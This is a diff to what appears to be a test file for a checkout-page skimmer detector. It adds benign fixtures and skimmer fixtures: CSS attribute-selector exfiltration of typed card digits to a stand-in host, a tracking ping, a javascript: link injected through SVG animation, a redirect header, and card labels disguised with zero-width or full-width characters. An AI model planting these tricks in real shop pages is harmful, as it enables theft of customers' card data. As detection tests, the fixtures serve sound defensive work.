@@ -34,6 +34,11 @@ const ordinary: readonly (readonly [what: string, Checkout])[] = [
   ['a one-time token', { nonce: 'ffffffffff' }],
   ['a sentence and a picture', { body: '<p>Thank you!</p><img src="/media/thanks.png" alt="">' }],
   ['a link to another shop of the firm', { body: '<a href="https://blog.example.jp/">Blog</a>' }],
+  [
+    'a field for a greeting',
+    { body: '<label for="w">メッセージカード</label><textarea id="w" name="words"></textarea>' },
+  ],
+  ['a style', { head: '<style>/* https://fonts.example */ p { background: url(/media/a.png) }</style>' }],
   ['more structured data', { head: '<script type="application/ld+json">{"@type":"Store"}</script>' }],
 ];
 
@@ -94,6 +99,41 @@ const skimmers: readonly (readonly [what: string, PageChange['severity'], Checko
     'loud',
     { body: '<input name="card_number" autocomplete="cc-number">' },
   ],
+  [
+    'asks for the card beside a field that says nothing',
+    'loud',
+    { body: '<label for="x9">カード\u200b番号</label><input id="x9" name="x9">' },
+  ],
+  ['asks for the card around a field', 'loud', { body: '<label>Card number <input name="memo"></label>' }],
+  [
+    'asks for the card by a name elsewhere',
+    'loud',
+    { body: '<p id="l">ＣＡＲＤ番号</p><input name="memo" aria-labelledby="l">' },
+  ],
+  ['shows what a card looks like', 'loud', { body: '<input name="memo" placeholder="4242 4242 4242 4242">' }],
+  ['sends the form through something else', 'loud', { formAction: '/checkout?relay=1' }],
+  [
+    'tells by a style what was typed',
+    'loud',
+    { head: '<style>input[value^="4"] { background: u\\72l(http:\\2f/ELSEWHERE/4) }</style>' },
+  ],
+  [
+    'tells it by a style of the shop',
+    'loud',
+    {
+      head: '<link rel="stylesheet" media="print" href="/a.css">',
+      files: { '/a.css': 'input[value^="4"] { background: image-set("//ELSEWHERE/4" 1x) }' },
+    },
+  ],
+  ['tells somebody who pays', 'loud', { body: '<a href="/" ping="http://ELSEWHERE/">Back</a>' }],
+  [
+    'turns a link into code after a while',
+    'loud',
+    {
+      body: '<svg><a><animate attributeName="href" values="#;javascript:steal()"/><text>Pay</text></a></svg>',
+    },
+  ],
+  ['leads the customer away by a header', 'loud', { headers: { refresh: '60; url=http://ELSEWHERE/' } }],
   ['drops the policy for content', 'changed', { headers: { 'content-security-policy': undefined } }],
   [
     'weakens the policy for content',
